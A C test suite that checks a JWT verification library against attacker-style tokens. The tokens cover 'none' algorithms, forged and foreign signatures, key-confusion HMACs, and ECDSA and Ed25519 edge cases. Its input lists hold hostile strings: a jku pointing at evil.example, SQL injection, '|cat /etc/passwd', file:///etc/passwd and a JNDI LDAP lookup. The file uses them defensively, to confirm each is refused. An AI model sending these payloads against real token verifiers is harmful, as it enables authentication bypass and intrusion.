/*
 * test_jwt_hostile.c
 *	  pure/jwt_*.c against tokens that an attacker would try, for every
 *	  algorithm.  Most are truly signed, so that nothing but the check in
 *	  question can refuse them.
 */
#include "jwt_signers.h"

/* Writes the token's parts apart; returns the length of header.payload. */
static size_t
input_of(const char *header, const char *payload, char *input)
{
	return write_input(header, strlen(header), payload, strlen(payload), input);
}

/* Refused with PT401, whatever the reason; wrong types have a message of their own. */
static bool
is_refused_somehow(const char *token, size_t length)
{
	SaasJwtClaims claims;
	SaasProblem problem = {0};
	bool		verified = SaasJwtVerify(token, length, keys, &rules, arena, &claims, &problem);
	bool		held = !verified && strcmp(problem.sqlstate, "PT401") == 0 &&
		claims_are_empty(&claims) && ERR_peek_error() == 0;

	if (!held)
		printf("# verified %d: %s %s / %s\n", verified, problem.sqlstate, problem.message,
			   problem.detail);
	return held;
}

static void
test_names(const Signer *signer)
{
	static const char *const names[] = {
		"none", "None", "NONE", "nOnE", "none ", "", "null", "HS384", "HS512", "RS1", "RS512",
		"PS512", "ES512", "ES256K", "Ed25519", "A128KW", "dir", "../ES256"
	};
	char		token[BUFFER_SIZE];
	size_t		length;
	size_t		i;
	int			accepted = 0;

	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++)
	{
		const char *header = header_of(names[i], signer->alg, "");

		accepted += !is_refused_somehow(sign_with(signer, header, PAYLOAD),
										strlen(sign_with(signer, header, PAYLOAD)));
		length = input_of(header, PAYLOAD, token);
		snprintf(token + length, sizeof(token) - length, ".");
		accepted += !is_refused_somehow(token, length + 1);
		accepted += !is_refused_somehow(token, length);
	}
	ok(accepted == 0, "%s: %zu names of algorithms, signed, with an empty signature and with none",
	   signer->alg, i);
}

static void
test_signature_bytes(const Signer *signer)
{
	static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
	const char *header = header_of(signer->alg, signer->alg, "");
	char		input[BUFFER_SIZE];
	char		token[BUFFER_SIZE];
	uint8_t		raw[MAX_RAW + 1] = {0};
	uint8_t		zeros[MAX_RAW] = {0};
	uint8_t		ones[MAX_RAW];
	size_t		length = raw_signature(signer, input, input_of(header, PAYLOAD, input), raw);
	size_t		token_length;
	const char *last;

	memset(ones, 0xff, sizeof(ones));
	ok(verifies(token_with(header, PAYLOAD, raw, length)), "%s: the signature itself is good",
	   signer->alg);
	ok(is_refused(token_with(header, PAYLOAD, raw, length - 1), "The signature is malformed."),
	   "%s: without its last byte", signer->alg);
	ok(is_refused(token_with(header, PAYLOAD, raw, length + 1), "The signature is malformed."),
	   "%s: with one byte more", signer->alg);
	ok(is_refused(token_with(header, PAYLOAD, raw + 1, length), NULL), "%s: shifted by one",
	   signer->alg);
	ok(is_refused(token_with(header, PAYLOAD, zeros, length), "The signature is wrong."),
	   "%s: of zeros", signer->alg);
	ok(is_refused(token_with(header, PAYLOAD, ones, length), "The signature is wrong."),
	   "%s: of ones", signer->alg);
	ok(is_refused(token_with(header, PAYLOAD, zeros, 1), "The signature is malformed."),
	   "%s: of one byte", signer->alg);
	raw[length / 2] ^= 1;
	ok(is_refused(token_with(header, PAYLOAD, raw, length), "The signature is wrong."),
	   "%s: with one bit changed", signer->alg);
	raw[length / 2] ^= 1;

	/* The last digit has bits that no byte takes: only zeros there are canonical. */
	token_length = strlen(token_with(header, PAYLOAD, raw, length));
	memcpy(token, token_with(header, PAYLOAD, raw, length), token_length + 1);
	last = strchr(digits, token[token_length - 1]);
	if (length % 3 != 0)
	{
		token[token_length - 1] = last[1];
		ok(is_refused(token, "The signature is malformed."), "%s: with stray low bits", signer->alg);
		token[token_length - 1] = *last;
	}
	snprintf(token + token_length, sizeof(token) - token_length, "=");
	ok(is_refused(token, "The signature is malformed."), "%s: padded", signer->alg);
	snprintf(token + token_length, sizeof(token) - token_length, "\n");
	ok(is_refused(token, "The signature is malformed."), "%s: with a line end", signer->alg);
	token[token_length / 2] = ' ';
	token[token_length] = '\0';
	ok(is_refused_somehow(token, token_length), "%s: a blank within", signer->alg);
	ok(is_refused_somehow(token, token_length + 1), "%s: a NUL behind", signer->alg);
}

/* Another's true signature, or its own of another token. */
static void
test_foreign_signatures(const Signer *signer)
{
	const char *header = header_of(signer->alg, signer->alg, "");
	const Signer *other;
	char		input[BUFFER_SIZE];
	uint8_t		raw[MAX_RAW];
	size_t		length;
	int			accepted = 0;

	FOR_EACH_SIGNER(other)
	{
		if (other == signer)
			continue;
		length = raw_signature(other, input, input_of(header, PAYLOAD, input), raw);
		accepted += !is_refused(token_with(header, PAYLOAD, raw, length), NULL);
	}
	length = raw_signature(signer, input, input_of(header, "{" CLAIMS ",\"exp\":1700000900}", input),
						   raw);
	accepted += !is_refused(token_with(header, PAYLOAD, raw, length), "The signature is wrong.");
	ok(accepted == 0, "%s: signatures of others and of other claims", signer->alg);
}

static void
test_header_members(const Signer *signer)
{
	static const char *const members[] = {
		",\"jku\":\"https://evil.example/jwks.json\"", ",\"jku\":null", ",\"x5u\":\"https://evil.example\"",
		",\"x5c\":[\"MIIB\"]", ",\"jwk\":{}", ",\"jwk\":null",
		",\"crit\":[\"exp\"]", ",\"crit\":[\"b64\"],\"b64\":false", ",\"crit\":null", ",\"crit\":\"x\"",
		",\"b64\":false", ",\"b64\":true", ",\"zip\":\"DEF\"", ",\"enc\":\"A256GCM\"",
		",\"alg\":\"none\"", ",\"\\u0061lg\":\"none\"", ",\"kid\":\"other\"", ",\"typ\":1",
		",\"x\":\"\\u0000\"", ",\"x\":\"\\ud800\"", ",\"x\":\"\xff\"", ",\"x\":\"\xc0\x80\"",
		",\"x\":1e999", ",\"x\":", ",", "}{", ",\"x\":NaN", ",'x':1", ",\"x\":01"
	};
	char		more[4096];
	size_t		i;
	int			accepted = 0;

	for (i = 0; i < sizeof(members) / sizeof(members[0]); i++)
	{
		const char *token = sign_with(signer, header_of(signer->alg, signer->alg, members[i]), PAYLOAD);

		if (!is_refused(token, NULL) && ++accepted)
			printf("# %s\n", members[i]);
	}
	snprintf(more, sizeof(more), ",\"jwk\":{%s}", signer->jwk);
	accepted += !is_refused(sign_with(signer, header_of(signer->alg, signer->alg, more), PAYLOAD),
							"The header brings its own key.");
	ok(accepted == 0, "%s: %zu members of headers", signer->alg, i + 1);
}

static void
test_kids(const Signer *signer)
{
	static const char *const kids[] = {
		"[]", "[\"%s\"]", "{\"kid\":\"%s\"}", "1", "-1", "1e3", "true", "null", "\"\"", "\"../%s\"",
		"\"%s/../%s\"", "\"/dev/null\"", "\"%s \"", "\" %s\"", "\"%s\\u0000\"", "\"%s\\n\"",
		"\"%s' or '1'='1\"", "\"'; drop table saas_private.jwt_key; --\"", "\"%%\"", "\"_____\"",
		"\"file:///etc/passwd\"", "\"|cat /etc/passwd\"", "\"${jndi:ldap://evil.example}\"",
		"\"\\ud83d\\ude00\"", "\"\xff\""
	};
	char		header[BUFFER_SIZE / 4];
	char		kid[6000];
	size_t		length;
	size_t		i;
	int			accepted = 0;

	for (i = 0; i < sizeof(kids) / sizeof(kids[0]); i++)
	{
		const char *from;

		/* %s stands for the right kid. */
		for (from = kids[i], length = 0; *from != '\0'; from++)
		{
			if (from[0] == '%' && from[1] == 's')
			{
				length += (size_t) snprintf(kid + length, sizeof(kid) - length, "%s", signer->alg);
				from++;
			}
			else
				kid[length++] = *from;
		}
		kid[length] = '\0';
		snprintf(header, sizeof(header), "{\"alg\":\"%s\",\"kid\":%s}", signer->alg, kid);
		if (!is_refused(sign_with(signer, header, PAYLOAD), NULL) && ++accepted)
			printf("# %s\n", kid);
	}
	memset(kid, 'k', sizeof(kid) - 1);
	kid[5000] = '\0';
	accepted += !is_refused(sign_with(signer, header_of(signer->alg, kid, ""), PAYLOAD),
							"No key is known for the token.");
	ok(accepted == 0, "%s: %zu kids", signer->alg, i + 1);
}

static void
test_claims(const Signer *signer)
{
	static const char *const payloads[] = {
		"{" CLAIMS "}", "{" CLAIMS ",\"exp\":null}", "{" CLAIMS ",\"exp\":\"1700000900\"}",
		"{" CLAIMS ",\"exp\":-1}", "{" CLAIMS ",\"exp\":-0.5}", "{" CLAIMS ",\"exp\":1699999969.9}",
		"{" CLAIMS ",\"exp\":9223372036854775807}", "{" CLAIMS ",\"exp\":9223372036854775808}",
		"{" CLAIMS ",\"exp\":1e308}", "{" CLAIMS ",\"exp\":1e400}", "{" CLAIMS ",\"exp\":9007199254740992}",
		"{" CLAIMS ",\"exp\":[1700000900]}", "{" CLAIMS ",\"exp\":{\"$gt\":0}}", "{" CLAIMS ",\"exp\":true}",
		"{" CLAIMS ",\"exp\":0x7fffffff}", "{" CLAIMS ",\"exp\":+1700000900}", "{" CLAIMS ",\"exp\":Infinity}",
		"{" CLAIMS ",\"exp\":1700000900,\"exp\":1800000000}",
		"{" CLAIMS ",\"exp\":1,\"\\u0065xp\":1800000000}",
		"{" CLAIMS ",\"exp\":1700000900,\"nbf\":1700000031}", "{" CLAIMS ",\"exp\":1700000900,\"iat\":1700000031}",
		"{" CLAIMS ",\"exp\":1700000900,\"nbf\":\"0\"}", "{" CLAIMS ",\"exp\":1700000900,\"iat\":-5}",
		"{" CLAIMS ",\"exp\":1700000900,\"sub\":[\"u1\"]}", "{" CLAIMS ",\"exp\":1700000900,\"sub\":1}",
		"{" CLAIMS ",\"exp\":1700000900,\"sid\":{}}", "{" CLAIMS ",\"exp\":1700000900,\"org\":null}",
		"{" CLAIMS ",\"exp\":1700000900,\"sub\":\"u1\",\"sub\":\"u2\"}",
		"{" CLAIMS ",\"exp\":1700000900,\"sub\":\"u1\\u0000\"}", "{" CLAIMS ",\"exp\":1700000900,\"sub\":\"\xff\"}",
		"{" CLAIMS ",\"exp\":1700000900,\"a\":{\"b\":{\"c\":1,\"c\":2}}}",
		"{\"aud\":\"app\",\"type\":\"access\",\"exp\":1700000900}",
		"{\"iss\":\"https://issuer/\",\"aud\":\"app\",\"type\":\"access\",\"exp\":1700000900}",
		"{\"iss\":[\"https://issuer\"],\"aud\":\"app\",\"type\":\"access\",\"exp\":1700000900}",
		"{\"iss\":\"https://issuer\",\"type\":\"access\",\"exp\":1700000900}",
		"{\"iss\":\"https://issuer\",\"aud\":\"App\",\"type\":\"access\",\"exp\":1700000900}",
		"{\"iss\":\"https://issuer\",\"aud\":[],\"type\":\"access\",\"exp\":1700000900}",
		"{\"iss\":\"https://issuer\",\"aud\":[[\"app\"]],\"type\":\"access\",\"exp\":1700000900}",
		"{\"iss\":\"https://issuer\",\"aud\":{\"app\":1},\"type\":\"access\",\"exp\":1700000900}",
		"{\"iss\":\"https://issuer\",\"aud\":\"app\",\"exp\":1700000900}",
		"{\"iss\":\"https://issuer\",\"aud\":\"app\",\"type\":\"refresh\",\"exp\":1700000900}",
		"{\"iss\":\"https://issuer\",\"aud\":\"app\",\"type\":[\"access\"],\"exp\":1700000900}",
		"[" PAYLOAD "]", "\"" "x" "\"", "null", "1", "{", "{}", PAYLOAD PAYLOAD, PAYLOAD "\n.", "\xef\xbb\xbf" PAYLOAD
	};
	char		deep[5800];
	size_t		i;
	int			accepted = 0;

	for (i = 0; i < sizeof(payloads) / sizeof(payloads[0]); i++)
	{
		const char *token = sign_with(signer, header_of(signer->alg, signer->alg, ""), payloads[i]);

		if (!is_refused_somehow(token, strlen(token)) && ++accepted)
			printf("# %s\n", payloads[i]);
	}
	memset(deep, '[', sizeof(deep) - 1);
	memcpy(deep, "{\"a\":", 5);
	deep[sizeof(deep) - 1] = '\0';
	accepted += !is_refused(sign_with(signer, header_of(signer->alg, signer->alg, ""), deep), NULL);
	memset(deep + 2900, ']', sizeof(deep) - 2901);
	memcpy(deep + sizeof(deep) - 8, ",\"b\":1}", 8);
	accepted += !is_refused(sign_with(signer, header_of(signer->alg, signer->alg, ""), deep), NULL);
	ok(accepted == 0, "%s: %zu payloads", signer->alg, i + 2);
}

/* HS256 over the token, keyed with what everybody knows of a public key. */
static void
try_secret(const char *what, const char *kid, const void *bytes, size_t length)
{
	const char *header = kid == NULL ? "{\"alg\":\"HS256\"}" : header_of("HS256", kid, "");
	char		input[BUFFER_SIZE];
	uint8_t		mac[32];
	size_t		input_length = input_of(header, PAYLOAD, input);

	HMAC(EVP_sha256(), bytes, (int) length, (const uint8_t *) input, input_length, mac, NULL);
	ok(is_refused(token_with(header, PAYLOAD, mac, sizeof(mac)), NULL),
	   "HS256 keyed with %s under kid %s", what, kid == NULL ? "(none)" : kid);
}

static void
test_confusion(const Signer *signer)
{
	BIO		   *bio = BIO_new(BIO_s_mem());
	unsigned char *der = NULL;
	char		jwk[2100];
	char	   *pem;
	long		pem_length;
	int			der_length;
	const char *const kids[] = {signer->alg, "HS256", NULL};
	size_t		i;

	PEM_write_bio_PUBKEY(bio, signer->key);
	pem_length = BIO_get_mem_data(bio, &pem);
	der_length = i2d_PUBKEY(signer->key, &der);
	snprintf(jwk, sizeof(jwk), "{%s}", signer->jwk);
	for (i = 0; i < sizeof(kids) / sizeof(kids[0]); i++)
	{
		try_secret("the public PEM", kids[i], pem, (size_t) pem_length);
		try_secret("the PEM without its line end", kids[i], pem, (size_t) pem_length - 1);
		try_secret("the public DER", kids[i], der, (size_t) der_length);
		try_secret("the JWK", kids[i], jwk, strlen(jwk));
		try_secret("its kid", kids[i], signer->alg, strlen(signer->alg));
		try_secret("nothing", kids[i], "", 0);
	}
	OPENSSL_free(der);
	BIO_free(bio);
}

/* r and s in the ranges where verifiers went wrong before (CVE-2022-21449). */
static void
test_ecdsa(const Signer *signer, const char *order)
{
	const char *header = header_of(signer->alg, signer->alg, "");
	char		input[BUFFER_SIZE];
	uint8_t		raw[MAX_RAW];
	uint8_t		native[MAX_RAW];
	uint8_t		bad[2][128];
	uint8_t		n[64];
	size_t		width = signer->width;
	size_t		input_length = input_of(header, PAYLOAD, input);
	size_t		native_length;
	BIGNUM	   *number = NULL;
	int			accepted = 0;
	int			r;
	int			s;

	raw_signature(signer, input, input_length, raw);
	BN_hex2bn(&number, order);
	BN_bn2binpad(number, n, (int) width);
	BN_free(number);
	/* Each of 0, 1, n, n - 1, beyond and the right one for either. */
	for (r = 0; r < 6; r++)
	{
		for (s = 0; s < 6; s++)
		{
			int			choice[2] = {r, s};
			int			i;

			for (i = 0; i < 2; i++)
			{
				uint8_t    *out = bad[0] + (size_t) i * width;

				memset(out, choice[i] == 4 ? 0xff : 0, width);
				if (choice[i] == 1)
					out[width - 1] = 1;
				if (choice[i] == 2 || choice[i] == 3)
					memcpy(out, n, width);
				if (choice[i] == 3)
					out[width - 1]--;
				if (choice[i] == 5)
					memcpy(out, raw + (size_t) i * width, width);
			}
			if (r != 5 || s != 5)
				accepted += !is_refused(token_with(header, PAYLOAD, bad[0], 2 * width),
										"The signature is wrong.");
		}
	}
	ok(accepted == 0, "%s: 35 pairs of impossible r and s", signer->alg);
	memcpy(bad[0], raw + width, width);
	memcpy(bad[0] + width, raw, width);
	ok(is_refused(token_with(header, PAYLOAD, bad[0], 2 * width), "The signature is wrong."),
	   "%s: s before r", signer->alg);
	native_length = native_signature(signer->key, signer->digest, false, 0, input, input_length, native);
	ok(is_refused(token_with(header, PAYLOAD, native, native_length), "The signature is malformed."),
	   "%s: the signature in DER", signer->alg);
}

static void
test_rsa(void)
{
	const Signer *rs = signer_of("RS256");
	const Signer *ps = signer_of("PS256");
	char		rs_header[64];
	char		ps_header[64];
	char		input[BUFFER_SIZE];
	uint8_t		raw[MAX_RAW] = {0};
	size_t		length;

	snprintf(rs_header, sizeof(rs_header), "%s", header_of("RS256", "RS256", ""));
	snprintf(ps_header, sizeof(ps_header), "%s", header_of("PS256", "PS256", ""));
	length = input_of(rs_header, PAYLOAD, input);
	native_signature(rs->key, EVP_sha256(), true, 32, input, length, raw);
	ok(is_refused(token_with(rs_header, PAYLOAD, raw, 256), "The signature is wrong."),
	   "RS256: a PSS signature");
	native_signature(rs->key, EVP_sha1(), false, 0, input, length, raw);
	ok(is_refused(token_with(rs_header, PAYLOAD, raw, 256), "The signature is wrong."),
	   "RS256: a signature with SHA-1");
	native_signature(rs->key, EVP_sha512(), false, 0, input, length, raw);
	ok(is_refused(token_with(rs_header, PAYLOAD, raw, 256), "The signature is wrong."),
	   "RS256: a signature with SHA-512");
	native_signature(rs->key, EVP_sha256(), false, 0, input, length, raw + 1);
	raw[0] = 0;
	ok(is_refused(token_with(rs_header, PAYLOAD, raw, 257), "The signature is malformed."),
	   "RS256: a leading zero");
	length = input_of(ps_header, PAYLOAD, input);
	native_signature(ps->key, EVP_sha256(), false, 0, input, length, raw);
	ok(is_refused(token_with(ps_header, PAYLOAD, raw, 256), "The signature is wrong."),
	   "PS256: a PKCS #1 v1.5 signature");
	native_signature(ps->key, EVP_sha256(), true, 0, input, length, raw);
	ok(is_refused(token_with(ps_header, PAYLOAD, raw, 256), "The signature is wrong."),
	   "PS256: no salt");
	native_signature(ps->key, EVP_sha256(), true, RSA_PSS_SALTLEN_MAX, input, length, raw);
	ok(is_refused(token_with(ps_header, PAYLOAD, raw, 256), "The signature is wrong."),
	   "PS256: the longest salt");
	native_signature(ps->key, EVP_sha512(), true, 32, input, length, raw);
	ok(is_refused(token_with(ps_header, PAYLOAD, raw, 256), "The signature is wrong."),
	   "PS256: another digest");
}

/* S and S + L make the same point; only the smaller is a signature (RFC 8032, 5.1.7). */
static void
test_ed25519(void)
{
	static const uint8_t order[32] = {
		0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14,
		0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10
	};
	const Signer *signer = signer_of("EdDSA");
	const char *header = header_of("EdDSA", "EdDSA", "");
	char		input[BUFFER_SIZE];
	uint8_t		raw[MAX_RAW];
	unsigned	carry = 0;
	int			i;

	raw_signature(signer, input, input_of(header, PAYLOAD, input), raw);
	for (i = 0; i < 32; i++)
	{
		carry += (unsigned) raw[32 + i] + order[i];
		raw[32 + i] = (uint8_t) carry;
		carry >>= 8;
	}
	ok(is_refused(token_with(header, PAYLOAD, raw, 64), "The signature is wrong."),
	   "EdDSA: S beyond the order");
	memset(raw, 0, 64);
	raw[0] = 1;
	ok(is_refused(token_with(header, PAYLOAD, raw, 64), "The signature is wrong."),
	   "EdDSA: the neutral element and 0");
}

static void
test_shapes(const Signer *signer)
{
	const char *good = good_token(signer);
	const char *payload = strchr(good, '.') + 1;
	const char *signature = strrchr(good, '.') + 1;
	int			header_length = (int) (payload - good) - 1;
	char		payloads[BUFFER_SIZE / 2];
	char		token[BUFFER_SIZE];
	int			accepted = 0;

#define TRY(...) \
	do { \
		int			written = snprintf(token, sizeof(token), __VA_ARGS__); \
		accepted += !is_refused_somehow(token, (size_t) written); \
	} while (0)
	TRY("%s.", good);
	TRY("%s.AAAA", good);
	TRY(".%s", good);
	TRY("%.*s", header_length, good);
	TRY("%.*s.%s", header_length, good, signature);
	TRY("%.*s..%s", header_length, good, signature);
	TRY("..%s", signature);
	TRY("%.*s.", (int) (signature - good) - 1, good);
	TRY("%.*s", (int) (signature - good) - 1, good);
	TRY("Bearer %s", good);
	TRY(" %s", good);
	TRY("%s ", good);
	TRY("%s\r\n", good);
	TRY("\"%s\"", good);
	TRY("%s,%s", good, good);
	TRY("%s=", good);
	TRY("%.*s=.%s", header_length, good, payload);
	TRY("%.*s+.%s", header_length, good, payload);
	TRY("%.*s%%2e%s", header_length, good, payload);
	TRY("{\"payload\":\"%.*s\",\"signature\":\"%s\"}", (int) (signature - payload) - 1, payload, signature);
	ok(accepted == 0, "%s: 20 shapes that are not compact", signer->alg);
#undef TRY
	snprintf(payloads, sizeof(payloads), "{" CLAIMS ",\"exp\":1700000900,\"a\":\"%0*d\"}", 6200, 0);
	ok(is_refused(sign_with(signer, header_of(signer->alg, signer->alg, ""), payloads),
				  "The token is too long."), "%s: more than 8 KiB", signer->alg);
}

int
main(void)
{
	const Signer *signer;

	open_all();
	FOR_EACH_SIGNER(signer)
	{
		test_names(signer);
		test_signature_bytes(signer);
		test_foreign_signatures(signer);
		test_header_members(signer);
		test_kids(signer);
		test_claims(signer);
		test_shapes(signer);
		if (signer->key != NULL)
			test_confusion(signer);
	}
	test_ecdsa(signer_of("ES256"), "FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551");
	test_ecdsa(signer_of("ES384"), "FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF"
			   "581A0DB248B0A77AECEC196ACCC52973");
	test_rsa();
	test_ed25519();
	close_all();
	return tap_done();
}
